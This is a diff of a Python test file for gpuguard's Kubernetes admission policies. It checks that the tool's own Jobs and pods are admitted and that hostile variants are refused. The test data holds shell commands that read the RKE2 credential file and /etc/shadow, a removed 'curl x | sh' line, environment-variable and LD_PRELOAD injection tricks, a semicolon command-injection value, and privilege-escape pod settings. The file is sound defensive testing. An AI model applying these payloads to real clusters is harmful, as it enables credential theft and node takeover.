@@ -1,5 +1,7 @@
-"""The ValidatingAdmissionPolicy admits exactly the Jobs gpuguard builds: its CEL rules are
-evaluated (cel-python) against the evidence Job and against Jobs a stolen token might try."""
+"""The Job and controller-pod admission policies, evaluated (cel-python) on the manifests
+``gpuguard manifest job …`` prints: gpuguard's own Jobs, the same Jobs after the API server's
+defaulting, and the Pods the Job controller makes of them are admitted; every hostile variant
+is refused by the rule named for it, whoever creates it."""
 
 from __future__ import annotations
 
@@ -9,102 +11,284 @@ from typing import Any
 
 import pytest
 
-from gpuguard.actuators import jobs
-from tests.admission import IMAGE, evidence, failed_rules, policy, render_default
+from tests import cel, chart
+from tests.admission import (
+    GPUGUARD,
+    NODE,
+    burnin,
+    controller_pod,
+    defaulted,
+    evidence,
+    pod_of,
+    policy,
+)
+
+JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"
+TENANT = "system:serviceaccount:gpuguard:tenant-ci"
+Obj = dict[str, Any]
 
 
-def test_the_evidence_job_gpuguard_builds_is_admitted() -> None:
-    assert failed_rules(evidence()) == []
 
 
-def _pod(job: dict[str, Any]) -> dict[str, Any]:
-    pod: dict[str, Any] = job["spec"]["template"]["spec"]
-    return pod
 
 
-def _container(job: dict[str, Any]) -> dict[str, Any]:
-    container: dict[str, Any] = _pod(job)["containers"][0]
+
+
+
+
+
+
+@pytest.mark.parametrize("build", [evidence, burnin], ids=["evidence", "burnin"])
+def test_gpuguards_jobs_their_defaulted_form_and_their_pods_are_admitted(
+    build: Callable[[], Obj],
+) -> None:
+    jobs_policy = policy("gpuguard-jobs")
+    job = build()
+    assert cel.refusals(jobs_policy, job, username=GPUGUARD) == []
+    assert cel.refusals(jobs_policy, defaulted(job), username=GPUGUARD) == []
+    pod = pod_of(job)
+    assert cel.refusals(jobs_policy, pod, username=JOB_CONTROLLER) == []
+    assert cel.refusals(policy("gpuguard-controller-pod"), pod, username=TENANT) is None
+
+
+def _pod(job: Obj) -> Obj:
+    spec: Obj = job["spec"]["template"]["spec"]
+    return spec
+
+
+def _c(job: Obj) -> Obj:
+    container: Obj = _pod(job)["containers"][0]
     return container
 
 
-MUTATIONS: list[tuple[str, str, Callable[[dict[str, Any]], None]]] = [
-    (
-        "privileged",
-        "unprivileged",
-        lambda j: _container(j)["securityContext"].update(privileged=True),
-    ),
-    ("host-pid", "host PID", lambda j: _pod(j).update(hostPID=True)),
-    ("host-network", "host PID", lambda j: _pod(j).update(hostNetwork=True)),
-    ("other-image", "own image", lambda j: _container(j).update(image="attacker/miner:latest")),
-    (
-        "shell-command",
-        "the command",
-        lambda j: _container(j).update(command=["sh", "-c", "curl x | sh"]),
-    ),
-    ("not-pinned", "pinned", lambda j: _pod(j).pop("nodeName")),
-    (
-        "sys-admin-cap",
-        "capabilities",
-        lambda j: _container(j)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
-    ),
-    (
-        "writable-mount",
-        "read-only",
-        lambda j: _container(j)["volumeMounts"][0].update(readOnly=False),
-    ),
-    (
-        "host-root-volume",
-        "hostPath",
-        lambda j: _pod(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
-    ),
-    ("api-token", "API token", lambda j: _pod(j).update(automountServiceAccountToken=True)),
-    (
-        "second-container",
-        "exactly one container",
-        lambda j: _pod(j)["containers"].append(copy.deepcopy(_container(j))),
-    ),
+def _env(job: Obj, name: str, value: str) -> None:
+    _c(job)["env"].append({"name": name, "value": value})
+
+
+ALSO_REFUSED_BY = {
+    "shell-command": {"*"},  # not gpuguard's command: what it may have is unknown, all refuse
+    "other-node": {"command"},  # `--node` in the command names the label's node
+    "not-pinned": {"command"},
+}
+JOB_ONLY = {"retried"}  # Job fields, not the pod's
+SHELL = ["sh", "-c", "cat /host/etc/rancher/rke2/rke2.yaml > /dev/termination-log"]
+Mutation = Callable[[Obj], None]
+HOSTILE: list[tuple[str, str, Mutation]] = [
+    ("poststart-exec-hook", "lifecycle",
+     lambda j: _c(j).update(lifecycle={"postStart": {"exec": {"command": SHELL}}})),
+    ("exec-startup-probe", "probes",
+     lambda j: _c(j).update(startupProbe={"exec": {"command": SHELL}})),
+    ("exec-liveness-probe", "probes",
+     lambda j: _c(j).update(livenessProbe={"exec": {"command": SHELL}})),
+    ("pythonwarnings-browser-trick", "env",
+     lambda j: (_env(j, "PYTHONWARNINGS", "always::antigravity.x:0"),
+                _env(j, "BROWSER", "/bin/sh -c 'id > /dev/termination-log' #%s"))),
+    ("pythonpath", "env", lambda j: _env(j, "PYTHONPATH", "/host/var/log")),
+    ("env-from-secret", "env",
+     lambda j: _c(j).update(envFrom=[{"secretRef": {"name": "anything"}}])),
+    ("env-value-from", "env", lambda j: _c(j)["env"].append(
+        {"name": "NVIDIA_VISIBLE_DEVICES", "valueFrom": {"fieldRef": {"fieldPath": "spec"}}})),
+    ("extra-args", "command", lambda j: _c(j).update(args=["--kernel-log", "/host/etc/shadow"])),
+    ("shell-command", "command", lambda j: _c(j).update(command=SHELL)),
+    ("evidence-root-elsewhere", "command", lambda j: _c(j)["command"].__setitem__(3, "/")),
+    ("working-dir", "container-fields", lambda j: _c(j).update(workingDir="/host/var/log")),
+    ("termination-message-elsewhere", "container-fields",
+     lambda j: _c(j).update(terminationMessagePath="/host/var/log/x")),
+    ("other-image", "image", lambda j: _c(j).update(image="attacker/miner:latest")),
+    ("privileged", "privileges", lambda j: _c(j)["securityContext"].update(privileged=True)),
+    ("sys-admin-cap", "capabilities",
+     lambda j: _c(j)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"])),
+    ("unmasked-proc", "security-context",
+     lambda j: _c(j)["securityContext"].update(procMount="Unmasked")),
+    ("seccomp-unconfined", "pod-security-context",
+     lambda j: _pod(j)["securityContext"].update(seccompProfile={"type": "Unconfined"})),
+    ("sysctl", "pod-security-context",
+     lambda j: _pod(j)["securityContext"].update(sysctls=[{"name": "kernel.x", "value": "1"}])),
+    ("host-pid", "host-namespaces", lambda j: _pod(j).update(hostPID=True)),
+    ("host-network", "host-namespaces", lambda j: _pod(j).update(hostNetwork=True)),
+    ("host-etc-volume", "volumes", lambda j: _pod(j)["volumes"].append(
+        {"name": "host-etc", "hostPath": {"path": "/etc", "type": "Directory"}})),
+    ("var-log-is-now-root", "volumes",
+     lambda j: _pod(j)["volumes"][1]["hostPath"].update(path="/")),
+    ("writable-mount", "mounts", lambda j: _c(j)["volumeMounts"][0].update(readOnly=False)),
+    ("subpath-mount", "mounts", lambda j: _c(j)["volumeMounts"][1].update(subPath="..")),
+    ("other-node", "node", lambda j: _pod(j).update(nodeName="control-plane-1")),
+    ("not-pinned", "node", lambda j: _pod(j).pop("nodeName")),
+    ("extra-toleration", "tolerations",
+     lambda j: _pod(j)["tolerations"].append({"key": "node-role.kubernetes.io/control-plane"})),
+    ("api-token", "service-account",
+     lambda j: _pod(j).update(automountServiceAccountToken=True)),
+    ("init-container", "one-container",
+     lambda j: _pod(j).update(initContainers=[copy.deepcopy(_c(j))])),
+    ("affinity", "pod-fields", lambda j: _pod(j).update(affinity={"nodeAffinity": {}})),
+    ("host-aliases", "pod-fields",
+     lambda j: _pod(j).update(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["x"]}])),
+    ("other-runtime-class", "runtime-class", lambda j: _pod(j).update(runtimeClassName="kata")),
+    ("apparmor-annotation", "annotations", lambda j: j["spec"]["template"]["metadata"].update(
+        annotations={"container.apparmor.security.beta.kubernetes.io/evidence": "unconfined"})),
+    ("gpu-for-evidence", "resources",
+     lambda j: _c(j)["resources"]["limits"].update({"nvidia.com/gpu": "1"})),
+    ("retried", "job", lambda j: j["spec"].update(backoffLimit=6)),
 ]
 
 
-@pytest.mark.parametrize(("name", "rule", "mutate"), MUTATIONS, ids=[m[0] for m in MUTATIONS])
-def test_any_other_shape_is_refused_by_its_rule(
-    name: str, rule: str, mutate: Callable[[dict[str, Any]], None]
+@pytest.mark.parametrize(("name", "rule", "mutate"), HOSTILE, ids=[m[0] for m in HOSTILE])
+def test_a_hostile_evidence_job_is_refused_by_its_rule_whoever_creates_it(
+    name: str, rule: str, mutate: Mutation
 ) -> None:
     job = evidence()
     mutate(job)
-    failed = failed_rules(job)
-    assert len(failed) == 1, f"{name}: {failed}"
-    assert rule in failed[0]
+    as_pod = [] if name in JOB_ONLY else [(pod_of(job), TENANT)]
+    for obj, user in [(job, TENANT), *as_pod]:
+        refused = cel.rule_names(cel.refusals(policy("gpuguard-jobs"), obj, username=user))
+        assert rule in refused
+        also = ALSO_REFUSED_BY.get(name, set())
+        assert set(refused) - {rule} <= also or "*" in also, refused
 
 
-def test_policy_applies_only_to_gpuguards_service_account_and_is_bound_to_deny() -> None:
-    docs = render_default()
-    (binding,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"]
-    assert binding["spec"]["validationActions"] == ["Deny"]
-    (condition,) = policy()["spec"]["matchConditions"]
-    assert "system:serviceaccount:gpuguard:gpuguard" in condition["expression"]
+BURNIN_HOSTILE: list[tuple[str, str, Mutation]] = [
+    ("gpus-do-not-match-the-command", "resources",
+     lambda j: _c(j)["resources"]["limits"].update({"nvidia.com/gpu": "1"})),
+    ("burnin-with-a-host-path", "volumes", lambda j: _pod(j)["volumes"].append(
+        {"name": "host-sys", "hostPath": {"path": "/sys", "type": "Directory"}})),
+    ("burnin-as-root", "security-context", lambda j: _c(j)["securityContext"].update(runAsUser=0)),
+    ("burnin-adds-a-capability", "capabilities",
+     lambda j: _c(j)["securityContext"]["capabilities"].update(add=["DAC_READ_SEARCH"])),
+    ("burnin-reason-injection", "command", lambda j: _c(j)["command"].__setitem__(9, "xid-1;sh")),
+]
 
 
-def burnin() -> dict[str, Any]:
-    return jobs.burnin_job(
-        "gpu-node-b", "2026-09-21T05:53:30Z", "91d4e7b0-boot-after", gpus=8,
-        mode="matmul+memtest", image=IMAGE, reason="xid-48",
-    )  # fmt: skip
-
-
-def test_the_burn_in_job_gpuguard_builds_is_admitted() -> None:
+@pytest.mark.parametrize(("name", "rule", "mutate"), BURNIN_HOSTILE,
+                         ids=[m[0] for m in BURNIN_HOSTILE])
+def test_a_hostile_burn_in_job_is_refused_by_its_rule(
+    name: str, rule: str, mutate: Mutation
+) -> None:
     job = burnin()
-    assert failed_rules(job) == []
-    assert _container(job)["command"][:2] == ["gpuguard", "burnin"]
-    assert _container(job)["resources"]["requests"]["nvidia.com/gpu"] == "8"
-    assert "volumes" not in _pod(job) or _pod(job)["volumes"] == []
+    mutate(job)
+    assert cel.rule_names(cel.refusals(policy("gpuguard-jobs"), job, username=GPUGUARD)) == [rule]
 
 
-def test_a_burn_in_job_with_a_host_path_is_refused() -> None:
-    job = burnin()
-    _pod(job)["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
-    _container(job)["volumeMounts"] = [{"name": "root", "mountPath": "/host"}]
-    assert failed_rules(job) == [
-        "only read-only hostPath volumes of /sys, /var/log, /proc, /etc",
-        "every mount is read-only",
-    ]
+def test_a_tenants_own_jobs_and_pods_are_not_the_policys_business() -> None:
+    job = evidence()
+    _pod(job)["serviceAccountName"] = "tenant-ci"
+    _c(job).update(command=SHELL)
+    assert cel.refusals(policy("gpuguard-jobs"), job, username=TENANT) is None
+    del _pod(job)["serviceAccountName"]
+    assert cel.refusals(policy("gpuguard-jobs"), job, username=TENANT) is None
+    assert cel.refusals(policy("gpuguard-controller-pod"), pod_of(job), username=TENANT) is None
+
+
+def test_the_policies_are_bound_to_deny_in_gpuguards_namespace_only() -> None:
+    for name in ("gpuguard-jobs", "gpuguard-controller-pod"):
+        binding = chart.by_name("ValidatingAdmissionPolicyBinding", name)
+        assert binding["spec"] == {"policyName": name, "validationActions": ["Deny"]}
+        constraints = policy(name)["spec"]["matchConstraints"]
+        assert constraints["namespaceSelector"] == {
+            "matchLabels": {"kubernetes.io/metadata.name": chart.NAMESPACE}}
+        pods = [r for r in constraints["resourceRules"] if "pods" in r["resources"]]
+        assert pods[0]["resources"] == ["pods", "pods/ephemeralcontainers"]
+        assert policy(name)["spec"]["failurePolicy"] == "Fail"
+
+
+# ---- the controller's pod: the only pod that may run as `gpuguard` ---------------------------
+
+
+
+
+def test_the_controller_pod_is_admitted() -> None:
+    pod = controller_pod()
+    rs = "system:serviceaccount:kube-system:replicaset-controller"
+    assert cel.refusals(policy("gpuguard-controller-pod"), pod, username=rs) == []
+    assert cel.refusals(policy("gpuguard-jobs"), pod, username=rs) is None
+
+
+def _cc(pod: Obj) -> Obj:
+    container: Obj = pod["spec"]["containers"][0]
+    return container
+
+
+CONTROLLER_HOSTILE: list[tuple[str, str, Mutation]] = [
+    ("tenant-image-with-the-token", "controller-container",
+     lambda p: _cc(p).update(image="attacker/kubectl:latest")),
+    ("shell-command", "controller-command", lambda p: _cc(p).update(command=SHELL)),
+    ("poststart-hook", "controller-command",
+     lambda p: _cc(p).update(lifecycle={"postStart": {"exec": {"command": SHELL}}})),
+    ("exec-liveness", "controller-command",
+     lambda p: _cc(p).update(livenessProbe={"exec": {"command": SHELL}})),
+    ("exec-readiness", "controller-command",
+     lambda p: _cc(p).update(readinessProbe={"exec": {"command": SHELL}})),
+    ("pythonwarnings", "controller-env",
+     lambda p: _cc(p)["env"].append({"name": "PYTHONWARNINGS", "value": "always"})),
+    ("host-path", "controller-volumes", lambda p: p["spec"]["volumes"].append(
+        {"name": "root", "hostPath": {"path": "/"}})),
+    ("root-user", "controller-privileges",
+     lambda p: p["spec"]["securityContext"].update(runAsNonRoot=False)),
+]
+
+
+@pytest.mark.parametrize(("name", "rule", "mutate"), CONTROLLER_HOSTILE,
+                         ids=[m[0] for m in CONTROLLER_HOSTILE])
+def test_no_other_pod_may_run_with_the_controllers_token(
+    name: str, rule: str, mutate: Mutation
+) -> None:
+    pod = controller_pod()
+    mutate(pod)
+    refused = cel.refusals(policy("gpuguard-controller-pod"), pod, username=TENANT)
+    assert cel.rule_names(refused) == [rule]
+
+
+# ---- the agent's pod, and the namespace ------------------------------------------------------
+
+
+def agent_pod() -> Obj:
+    (daemonset,) = chart.by_kind("DaemonSet")
+    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "gpuguard-agent-x2k4p"},
+            "spec": copy.deepcopy(daemonset["spec"]["template"]["spec"]) | {
+                "nodeName": NODE, "dnsPolicy": "ClusterFirst"}}
+
+
+def _ac(pod: Obj) -> Obj:
+    container: Obj = pod["spec"]["containers"][0]
+    return container
+
+
+AGENT_HOSTILE: list[tuple[str, str, Mutation]] = [
+    ("other-image", "agent-container", lambda p: _ac(p).update(image="attacker/root:latest")),
+    ("shell-init-container", "agent-container", lambda p: p["spec"]["initContainers"][0].update(
+        image="busybox", command=SHELL)),
+    ("exec-liveness", "agent-hooks",
+     lambda p: _ac(p).update(livenessProbe={"exec": {"command": SHELL}})),
+    ("ld-preload", "agent-hooks",
+     lambda p: _ac(p)["env"].append({"name": "LD_PRELOAD", "value": "/host/tmp/x.so"})),
+    ("host-root", "agent-volumes",
+     lambda p: p["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}})),
+    ("writable-etc", "agent-volumes",
+     lambda p: [m.update(readOnly=False) for m in _ac(p)["volumeMounts"]
+                if m["name"] == "host-etc"]),
+    ("privileged-without-the-option", "agent-privileges",
+     lambda p: _ac(p)["securityContext"].update(privileged=True)),
+    ("host-pid", "agent-privileges", lambda p: p["spec"].update(hostPID=True)),
+]
+
+
+def test_the_agent_pod_is_admitted() -> None:
+    assert cel.refusals(policy("gpuguard-agent-pod"), agent_pod(), username=TENANT) == []
+    assert cel.refusals(policy("gpuguard-namespace"), agent_pod(), username=TENANT) == []
+
+
+@pytest.mark.parametrize(("name", "rule", "mutate"), AGENT_HOSTILE,
+                         ids=[m[0] for m in AGENT_HOSTILE])
+def test_nothing_else_runs_as_the_agent(name: str, rule: str, mutate: Mutation) -> None:
+    pod = agent_pod()
+    mutate(pod)
+    refused = cel.refusals(policy("gpuguard-agent-pod"), pod, username=TENANT)
+    assert cel.rule_names(refused) == [rule]
+
+
+def test_only_gpuguards_accounts_run_pods_in_its_namespace() -> None:
+    tenant = agent_pod()
+    tenant["spec"]["serviceAccountName"] = "default"
+    refused = cel.refusals(policy("gpuguard-namespace"), tenant, username=TENANT)
+    assert cel.rule_names(refused) == ["namespace"]
+    assert cel.refusals(policy("gpuguard-namespace"), controller_pod(), username=TENANT) == []
+    assert cel.refusals(policy("gpuguard-namespace"), pod_of(evidence()), username=TENANT) == []
